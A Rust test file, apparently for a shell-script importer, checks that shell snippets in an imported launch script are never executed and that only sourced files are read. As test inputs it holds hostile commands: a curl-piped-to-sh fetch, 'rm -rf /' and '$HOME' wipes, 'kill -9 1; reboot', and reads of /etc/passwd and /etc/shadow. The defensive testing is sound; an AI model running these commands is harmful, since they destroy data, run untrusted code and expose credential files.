//! Nothing of a script is run, whatever it tries.

use super::*;

/// Each would leave a file behind if anything of it ran.
#[test]
fn no_way_out_of_the_evaluator() {
    let marker = std::env::temp_dir().join(format!("rldeck-import-{}", std::process::id()));
    let mark = marker.display();
    let tries = [
        format!("touch {mark}"),
        format!("/bin/sh -c 'touch {mark}'"),
        format!("echo x > {mark}"),
        format!("cat > {mark} <<EOF\nx\nEOF"),
        format!(": > {mark}"),
        format!("> {mark}"),
        format!("exec 3> {mark}"),
        format!("A=$(touch {mark})"),
        format!("A=`touch {mark}`"),
        format!("diff <(touch {mark}) >(tee {mark})"),
        format!("trap 'touch {mark}' EXIT"),
        format!("echo touch {mark} | sh"),
        format!("curl http://x/{mark} | sh -s > {mark}"),
        format!("f() {{ command touch {mark}; }}; f; (f) & wait"),
        format!("sudo env A=1 nohup touch {mark}"),
        format!("[ -e {mark} ] || touch {mark}"),
        format!("printf x | tee {mark} | dd of={mark}"),
        format!("ssh localhost touch {mark} &"),
        format!("find / -exec touch {mark} \\;"),
        format!("read -r A < {mark}; mapfile -t B < {mark}"),
        format!("set -o noclobber; echo x >| {mark} &>> {mark} 2> {mark}"),
        "rm -rf /; rm -rf /*; rm -rf \"$HOME\"".to_owned(),
        "kill -9 $$; kill -9 1; reboot".to_owned(),
    ];
    for script in &tries {
        let imported = good(plain(&format!("{script}\n{LAUNCH}\n")));
        assert!(!marker.exists(), "{script}");
        assert_eq!(job(&imported).value("num-rollout").as_deref(), Some("9"), "{script}");
    }
    for script in [format!("eval \"touch {mark}\""), format!("exec touch {mark}"), format!("source <(touch {mark})")] {
        refused(&format!("{script}\n{LAUNCH}\n"));
        assert!(!marker.exists(), "{script}");
    }
}

/// The room has no process and no file in it: only what the caller hands in is asked.
#[test]
fn files_are_asked_for_by_name_only_to_be_sourced() {
    let asked = std::cell::RefCell::new(Vec::new());
    let machine = Machine {
        variable: &|_| None,
        set: &map([]),
        read: &|path| {
            asked.borrow_mut().push(path.to_owned());
            Ok("A=1\n".to_owned())
        },
        dir: "/s",
    };
    let script = format!("source ./a.sh\n. ../b.sh\ncat /etc/passwd < /etc/shadow\n[ -f /etc/hosts ]\n{LAUNCH}\n");
    import(&script, "run-x.sh", &machine).unwrap();
    assert_eq!(asked.into_inner(), ["/s/a.sh", "/b.sh"]);
}
